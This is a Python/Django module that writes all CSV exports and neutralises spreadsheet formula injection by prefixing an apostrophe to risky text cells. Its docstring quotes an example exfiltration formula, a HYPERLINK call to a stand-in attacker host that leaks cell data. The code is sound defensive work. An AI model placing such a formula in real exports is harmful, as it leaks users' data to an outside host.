"""The one CSV writer for every export: spreadsheet formulas in cells are neutralised.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://evil.example/?"&A1)``
leaks data, DDE runs programs). Such a text cell gets a leading apostrophe, which the
spreadsheet shows as plain text (OWASP "CSV injection"). Numbers stay numbers: ints,
decimals, dates and text that is only a number (``-12,50``, ``+3.5``) are written as they are.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from django.http import HttpResponse
from django.utils.http import content_disposition_header

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")


def neutralise(value: Any) -> Any:
    """A cell value that no spreadsheet runs as a formula."""
    if value is None:
        return ""
    if isinstance(value, (bool, int, float, Decimal, date, datetime)):
        return value
    text = str(value)
    if text.startswith(FORMULA_START) and not _NUMBER.match(text):
        return "'" + text
    return text


class SafeWriter:
    """``csv.writer`` that neutralises every cell."""

    def __init__(self, stream: Any, *, delimiter: str = ",") -> None:
        self._writer = csv.writer(
            stream, delimiter=delimiter, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n"
        )

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_text(*, delimiter: str = ",", bom: bool = True) -> tuple[io.StringIO, SafeWriter]:
    """A buffer (with a UTF-8 byte-order mark so spreadsheets read accents) and its writer."""
    buf = io.StringIO()
    if bom:
        buf.write("\ufeff")
    return buf, SafeWriter(buf, delimiter=delimiter)


def csv_response(filename: str, *, delimiter: str = ",") -> tuple[HttpResponse, SafeWriter]:
    """An attachment response to write rows into (personal data: never cached)."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = content_disposition_header(True, filename) or "attachment"
    response["Cache-Control"] = "private, no-store"
    response.write("\ufeff")
    return response, SafeWriter(response, delimiter=delimiter)
